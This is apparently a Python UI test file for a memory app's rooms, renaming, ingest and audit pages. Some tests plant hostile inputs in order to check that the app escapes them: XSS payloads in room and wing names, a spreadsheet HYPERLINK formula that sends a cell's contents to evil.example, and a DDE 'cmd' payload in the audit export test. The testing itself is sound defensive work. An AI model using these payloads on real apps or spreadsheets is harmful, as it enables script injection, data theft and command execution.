def test_markup_in_names_stored_by_other_tools_is_never_rendered(story, settings):
    evil_room = '"><img src=x onerror=alert(3)>'
    evil_wing = "wing_</script><script>alert(4)</script>"
    with Palace.open(settings=settings) as palace:
        foreign_add(palace, "evil-1", "OIDC notes from an upstream tool", evil_wing, evil_room)
        foreign_add(palace, "evil-2", "More OIDC notes from upstream", "wing_kai", evil_room)
    at = start()
    assert_no_raw_markup(at)
    assert any(r"\<img src=x onerror=alert\(3\)\>" in link.value for link in at.page_link)
    for name in ("search", "tunnels", "drawers"):
        at = open_page(name, q="OIDC notes")
        assert_no_raw_markup(at)
        if name == "tunnels":
            page = charts_in(at.main)["network"]
            assert "alert(3)" in page and "<img src=x" not in page and "<script>alert(4)" not in page
            assert {'"><img src=x onerror=alert(3)>'} <= network_rooms(at)
        if name == "search":
            assert any("&lt;img src=x onerror=alert(3)&gt;" in h.value for h in at.html)


def test_a_renamed_rooms_old_name_opens_it_and_editors_rename_on_tunnels(story, settings):
    with Palace.open(settings=settings) as palace:
        palace.rename_room("gpu-pricing", "gpu-costs")
    for page, field in (("drawers", "drawers_room"), ("search", "search_room")):
        at = open_page(page, room="gpu-pricing")  # a bookmark from before the rename
        assert at.selectbox(key=field).value == "gpu-costs" and not at.warning
        assert at.query_params["room"] == "gpu-costs"
    at = open_page("tunnels")
    assert any(md("gpu-pricing → gpu-costs") in c.value for c in at.caption)
    at.toggle(key="rename_open").set_value(True).run()
    at.selectbox(key="rename_room").select("gpu-costs").run()
    at.text_input(key="rename_new").input("GPU spend").run()
    at.button(key="rename_go").click().run()
    assert not at.exception
    palace = app_palace(at)
    assert "gpu-spend" in palace.list_rooms() and "gpu-costs" not in palace.list_rooms()
    assert palace.room_aliases() == {"gpu-pricing": "gpu-spend", "gpu-costs": "gpu-spend"}
    assert palace.room_named_by_person("gpu-spend")


def test_a_room_is_renamed_to_one_of_its_other_names_in_one_click(story):
    at = open_page("tunnels")
    at.toggle(key="rename_open").set_value(True).run()
    at.selectbox(key="rename_room").select("gpu-pricing").run()
    offered = [b for b in at.button if (b.key or "").startswith("rename_to_")]
    assert offered and "gpu-pricing" not in [b.key.removeprefix("rename_to_") for b in offered]
    chosen = offered[0].key.removeprefix("rename_to_")
    offered[0].click().run()
    assert not at.exception
    palace = app_palace(at)
    assert chosen in palace.list_rooms() and "gpu-pricing" not in palace.list_rooms()
    assert palace.room_aliases()["gpu-pricing"] == chosen and palace.room_named_by_person(chosen)


def test_a_rooms_page_offers_its_other_names_and_a_click_renames_it_and_follows(story):
    at = open_page("drawers", room="gpu-pricing")
    offered = [b for b in at.button if (b.key or "").startswith("drawers_other_name_")]
    assert offered
    chosen = offered[0].key.removeprefix("drawers_other_name_")
    offered[0].click().run()
    assert not at.exception and not at.warning
    assert at.selectbox(key="drawers_room").value == chosen and at.query_params["room"] == chosen
    assert chosen in app_palace(at).list_rooms()
    at = open_page("overview")
    at.toggle(key="rename_open").set_value(True).run()
    at.selectbox(key="rename_room").select(chosen).run()
    assert [b for b in at.button if (b.key or "").startswith("rename_to_")] and not at.exception


def test_ingest_offers_the_existing_room_a_typed_room_probably_means(story):
    at = open_page("ingest")
    at.text_input(key="ingest_room").input("migrating auth").run()
    assert [i.value for i in at.info][0] == md("migrating auth is a new room: did you mean auth-migration?")
    at.button(key="ingest_room_similar").click().run()
    assert not at.exception
    assert at.text_input(key="ingest_room").value == "auth-migration"
    assert not [b for b in at.button if b.key == "ingest_room_similar"]
    assert not any("did you mean" in i.value for i in at.info)
    at.text_input(key="ingest_room").input("gardening").run()
    assert not any("did you mean" in i.value for i in at.info)


def test_the_audit_export_never_hands_a_spreadsheet_a_formula(story, settings, downloads):
    from mempalace.access.rules import Actor

    with Palace.open(settings=settings) as palace:
        palace.access.record(Actor('=HYPERLINK("http://evil.example/?"&A1,"open")', "mcp"), "add",
                             [story["xss"]], room="+cmd|' /C calc'!A0")
    at = open_page("audit")
    rows = list(csv.DictReader(io.StringIO(downloads(
        next(b for b in at.download_button if b.label == "Export CSV")).decode("utf-8"))))
    planted = next(r for r in rows if "HYPERLINK" in r["who"])
    assert planted["who"].startswith("'=") and planted["action"] == "add"
    assert all(not cell[:1] in "=+-@" for row in rows for cell in row.values()), rows


def test_the_audit_page_shows_times_and_details_as_people_read_them(story, downloads):
    at = open_page("audit")
    table = at.dataframe[0].value
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC", w) for w in table["when"]), list(table["when"])
    assert not any(d.startswith("{") for d in table["details"]) and any("room=" in d for d in table["details"])
    exported = json.loads(downloads(next(b for b in at.download_button if b.label == "Export JSON")))
    assert "." in exported[0]["when"] and exported[0]["details"].startswith("{")  # the export keeps exact values
